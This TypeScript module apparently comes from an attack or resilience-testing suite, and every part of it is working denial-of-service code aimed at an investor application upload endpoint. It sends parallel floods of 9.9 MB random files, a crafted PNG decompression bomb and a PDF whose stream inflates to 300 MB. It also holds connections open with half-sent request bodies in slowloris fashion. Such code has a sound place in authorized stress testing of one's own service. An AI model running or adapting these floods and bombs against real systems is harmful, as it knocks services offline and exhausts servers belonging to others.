import { randomBytes } from 'node:crypto';
import { crc32, deflateSync } from 'node:zlib';
import { begin, FORM, form, part, sendRequest } from '../caller.ts';
import { callerOf, inLanes, type Means, outcome } from './attack.ts';

const GUEST_LANES = 8;
const MEMBER_LANES = 12;
const STALLED_LANES = 12;
const FILE_BYTES = 9_900_000;

/** Files that are large, inflated or never whole, from guests and from registered accounts. */
export async function uploadFlood(means: Means): Promise<void> {
  const noise = randomBytes(FILE_BYTES);
  const files = [
    part('identity_front', noise, 'card.png'),
    part('identity_front', inflatedPicture(), 'card.png'),
    part('identity_front', inflatedPdf(), 'card.pdf'),
    part('identity_front', smallPicture(), 'card.png'),
  ];
  const fileOf = (at: number) => files[at % files.length] ?? Buffer.alloc(0);
  const bodyOf = (at: number) =>
    form(part('submit', '0'), part('version', '0'), ...Array(at % 4 === 0 ? 8 : 1).fill(fileOf(at)));
  const send = (at: number, isMember: boolean) =>
    sendRequest(callerOf(means, at, isMember), 'POST', '/api/investors/apply', bodyOf(at), {
      'content-type': FORM,
    });
  await Promise.all([
    inLanes(means, GUEST_LANES, (at) => outcome('guest', send(at, false))),
    inLanes(means, MEMBER_LANES, (at) => outcome('member', send(at, true))),
    inLanes(means, STALLED_LANES, (at) => stall(means, at, bodyOf(0))),
  ]);
}

/** Announces a form, sends half of it and nothing more. */
function stall(means: Means, at: number, body: Buffer): Promise<string> {
  const call = begin(callerOf(means, at, true), 'POST', '/api/investors/apply', {
    ...{ 'content-type': FORM, 'content-length': body.length },
  });
  call.write(body.subarray(0, body.length / 2));
  return new Promise((resolve) => {
    const timer = setTimeout(() => call.destroy(), Math.max(1, means.until - Date.now()));
    const end = (outcome: string) => {
      clearTimeout(timer);
      resolve(`stalled ${outcome}`);
      call.destroy();
    };
    call.once('response', ({ statusCode }) => end(String(statusCode))).once('error', () => end('cut'));
  });
}

function chunk(type: string, content: Buffer): Buffer {
  const named = Buffer.concat([Buffer.from(type), content]);
  const [length, checksum] = [Buffer.alloc(4), Buffer.alloc(4)];
  length.writeUInt32BE(content.length);
  checksum.writeUInt32BE(crc32(named));
  return Buffer.concat([length, named, checksum]);
}

function picture(side: number, rows: number): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(side, 0);
  header.writeUInt32BE(side, 4);
  header.set([8, 0, 0, 0, 0], 8);
  const content = deflateSync(Buffer.alloc((side + 1) * rows));
  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  return Buffer.concat([
    signature,
    chunk('IHDR', header),
    chunk('IDAT', content),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

/** 49 million points in some dozen kilobytes: just within what a picture may have. */
function inflatedPicture(): Buffer {
  return picture(7_000, 7_000);
}

function smallPicture(): Buffer {
  return picture(800, 800);
}

/** A PDF whose one stream becomes 300 MB. */
function inflatedPdf(): Buffer {
  const inner = deflateSync(Buffer.alloc(300_000_000));
  const head = `%PDF-1.5\n1 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${inner.length} >>\nstream\n`;
  return Buffer.concat([
    Buffer.from(head),
    inner,
    Buffer.from('\nendstream\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF\n'),
  ]);
}
